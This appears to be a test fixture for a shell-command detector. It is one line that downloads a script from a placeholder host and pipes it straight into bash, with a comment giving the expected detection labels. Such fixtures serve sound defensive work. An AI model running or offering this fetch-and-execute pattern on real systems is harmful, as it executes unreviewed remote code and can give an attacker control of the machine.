# want: sh.exec.download sh.network.tool
bash <(curl -s https://example.invalid/x)
